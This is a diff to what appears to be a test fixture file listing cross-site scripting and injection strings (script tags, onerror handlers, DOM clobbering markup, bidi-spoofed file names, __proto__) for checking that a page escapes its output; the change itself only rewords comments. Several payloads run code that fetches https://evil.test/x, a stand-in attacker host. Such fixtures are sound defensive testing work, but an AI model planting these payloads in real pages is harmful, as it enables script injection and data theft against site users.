@@ -1,7 +1,7 @@
-/** Whatever runs says so: `window.__pwned`, a dialog, or a request to evil.test. */
+/** An attack that runs shows it: it sets `window.__pwned`, opens a dialog, or asks evil.test. */
 const RUN = "window.__pwned=1;fetch('https://evil.test/x')";
 
-/** Texts that end a string, a tag, an attribute, a comment or a script of a page that prints them carelessly. */
+/** Texts that end a string, tag, attribute, comment or script when a page prints them unescaped. */
 export const CORPUS: readonly string[] = [
   `<script>${RUN}</script>`,
   `</Script ><img src=x onerror="${RUN}">`,
@@ -35,6 +35,6 @@ export const CORPUS: readonly string[] = [
   `<img id=__pwned name=body><a id=config><a id=config name=origin href="https://evil.test/d">`,
   `\u202E\u2066gpj.exe\u2069\u202C\u0000\b\uFEFF\uD800`,
   `__proto__`,
-  // Nothing of an attack: other sites call their files as this one does.
+  // No attack, but names that this site uses for its own files.
   `<p><a href="https://menus.example/_astro/menu.Ab12.pdf">Menu</a></p>`,
 ];
